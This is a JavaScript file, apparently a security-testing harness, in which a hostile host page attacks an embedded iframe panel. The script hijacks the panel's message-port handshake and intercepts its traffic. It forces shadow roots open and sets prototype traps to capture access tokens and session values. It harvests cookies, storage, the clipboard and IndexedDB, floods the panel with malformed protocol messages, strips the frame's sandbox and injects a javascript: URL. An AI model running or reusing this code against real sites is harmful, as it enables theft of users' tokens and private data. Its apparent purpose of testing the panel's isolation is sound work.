// A host page's own script that wants to know what the panel shows: it runs before the panel's loader and keeps whatever passes it in `window.stolen`. `window.attack()` then tries everything at once.
(() => {
  const stolen = [];
  const ports = [];
  const roots = [];
  const natives = { addEventListener: EventTarget.prototype.addEventListener, contentWindow: Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow'), stringify: JSON.stringify, post: MessagePort.prototype.postMessage };
  const keep = (how, what) => {
    try {
      stolen.push(`${how}: ${typeof what === 'string' ? what : natives.stringify(what)}`);
    } catch (error) {
      stolen.push(`${how}: ${String(error)}`);
    }
  };
  const trying = async (how, work) => {
    try {
      keep(how, await work());
    } catch (error) {
      stolen.push(`${how}: refused, ${error?.name}`);
    }
  };

  // Everything that is said to this window, and over any port of it.
  natives.addEventListener.call(window, 'message', (event) => keep('window heard', event.data), true);
  natives.addEventListener.call(document, 'securitypolicyviolation', (event) => keep('violation', `${event.violatedDirective} ${event.blockedURI}`));
  const NativeChannel = window.MessageChannel;
  window.MessageChannel = class extends NativeChannel {
    constructor() {
      super();
      for (const port of [this.port1, this.port2]) ports.push(port);
      natives.addEventListener.call(this.port1, 'message', (event) => keep('port heard', event.data));
    }
  };
  MessagePort.prototype.postMessage = function post(...values) {
    keep('port said', values[0]);
    return natives.post.apply(this, values);
  };
  // A window in the middle: the loader's handshake goes through a port of ours, so that every word both ways passes here.
  Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', {
    configurable: true,
    get() {
      const real = natives.contentWindow.get.call(this);
      return {
        postMessage: (message, origin, transfer) => {
          keep('handshake', message);
          const ours = new NativeChannel();
          const [theirs] = transfer ?? [];
          ports.push(ours.port1);
          ours.port1.onmessage = (event) => {
            keep('frame said', event.data);
            natives.post.call(theirs, event.data);
          };
          theirs.onmessage = (event) => {
            keep('host said', event.data);
            natives.post.call(ours.port1, event.data);
          };
          real.postMessage(message, origin, [ours.port2]);
        },
      };
    },
  });

  // Everything that the loader does with functions and prototypes of this page.
  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function attach(init) {
    const root = attachShadow.call(this, { ...init, mode: 'open' });
    roots.push(root);
    return root;
  };
  const dispatchEvent = EventTarget.prototype.dispatchEvent;
  EventTarget.prototype.dispatchEvent = function dispatch(event) {
    keep('event', [event.type, event.detail]);
    return dispatchEvent.call(this, event);
  };
  const nativeFetch = window.fetch;
  window.fetch = async (...values) => {
    keep('fetch', String(values[0]));
    return nativeFetch(...values);
  };
  for (const name of ['answer', 'people', 'involvements', 'access_token', 'session', 'declarationId', 'toJSON']) {
    Object.defineProperty(Object.prototype, name, { configurable: true, get() { return undefined; }, set(value) { keep(`prototype ${name}`, value); Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true }); } });
  }

  const frames = () => [...document.querySelectorAll('iframe'), ...roots.flatMap((root) => [...root.querySelectorAll('iframe')])];
  const real = (frame) => natives.contentWindow.get.call(frame);

  // Words of the protocol, and words that are none, to a panel that nobody has opened or that shows an answer.
  const junk = [
    { v: 1, type: 'refresh' }, { v: 1, type: 'open' }, { v: 1, type: 'check' }, { v: 1, type: 'answered' }, { v: 2, type: 'refresh' }, { v: 1, type: '__proto__' }, { v: 1, type: 'constructor' }, null, 7, 'refresh', [],
    { v: 1, type: 'launch-token', request: 1, token: 'a.b.c' }, { v: 1, type: 'launch-token', request: 99, token: {} }, { v: 1, type: 'launch-failed', request: -1 },
    { v: 1, type: 'connect', settings: { subject: 'x' } }, JSON.parse('{"v":1,"type":"refresh","__proto__":{"debug":true}}'), { v: 1, type: 'x'.repeat(100_000) },
  ];
  window.spam = () => {
    for (const port of ports) for (const word of junk) trying('spam', () => natives.post.call(port, word));
    for (const frame of frames()) {
      const origin = new URL(frame.src).origin;
      for (const word of junk) trying('spam', () => real(frame).postMessage(word, origin));
      const ours = new NativeChannel();
      ours.port1.onmessage = (event) => keep('second handshake answered', event.data);
      trying('spam', () => real(frame).postMessage({ v: 1, type: 'connect', settings: { subject: 'first' } }, origin, [ours.port2]));
    }
  };

  window.attack = async (words) => {
    for (const frame of frames()) {
      await trying('frame address', () => frame.src);
      await trying('frame document', () => frame.contentDocument?.documentElement.outerHTML ?? 'null');
      for (const name of ['document', 'location', 'name', 'origin', 'frameElement', 'localStorage', 'customElements', 'history', 'performance', 'getSelection']) await trying(`frame ${name}`, () => { const found = real(frame)[name]; return name === 'location' ? found.href : String(found); });
      await trying('frame keys', () => Reflect.ownKeys(real(frame)).map(String));
      await trying('frame eval', () => real(frame).eval('document.body.innerHTML'));
      await trying('frame frames', () => [real(frame).length, window.length]);
      await trying('frame size', () => 'known to every host');
    }
    await trying('this document', () => document.documentElement.outerHTML);
    await trying('shadow roots', () => roots.map((root) => root.innerHTML));
    await trying('title, name, history', () => [document.title, window.name, history.length, location.href]);
    await trying('cookies', () => document.cookie);
    await trying('storage', () => [{ ...localStorage }, { ...sessionStorage }]);
    await trying('databases', () => indexedDB.databases());
    await trying('caches', () => caches.keys());
    await trying('clipboard', () => navigator.clipboard.readText());
    await trying('resources', () => performance.getEntries().map(({ name, entryType }) => [entryType, name]));
    await trying('service workers', async () => (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => scope));
    await trying('selection', () => {
      getSelection().selectAllChildren(document.documentElement);
      return getSelection().toString();
    });
    for (const [index, word] of words.entries()) await trying(`find ${index}`, () => window.find(word, false, false, true, false, true, false));
    return stolen;
  };

  // Takes the frame's fences away and loads it anew; opens it in other ways.
  window.tamper = async () => {
    for (const frame of frames()) {
      await trying('tamper sandbox', () => frame.removeAttribute('sandbox'));
      await trying('tamper script address', () => { real(frame).location.href = 'javascript:parent.postMessage(document.body.innerHTML, "*")'; });
      await trying('tamper srcdoc', () => { const twin = document.createElement('iframe'); twin.srcdoc = '<p>twin</p>'; document.body.append(twin); return twin.src; });
      await trying('tamper reload', () => { const { src } = frame; frame.src = src; return 'loaded anew'; });
    }
  };
  window.stolen = stolen;
})();
